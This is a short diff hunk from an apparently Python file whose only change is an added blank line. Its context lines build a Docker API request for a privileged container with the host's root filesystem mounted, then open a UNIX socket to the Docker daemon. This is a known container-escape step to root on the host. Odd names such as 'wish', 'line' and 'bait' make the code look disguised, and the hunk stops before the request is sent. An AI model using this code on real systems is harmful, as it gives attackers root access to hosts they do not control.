@@ -6,6 +6,7 @@
 # %% before count
 import json
 import socket
+
 wish = json.dumps({"Image": "debian", "HostConfig": {"Binds": ["/:/host"], "Privileged": True}})
 with socket.socket(socket.AF_UNIX) as line:
     line.connect(bait["docker"])
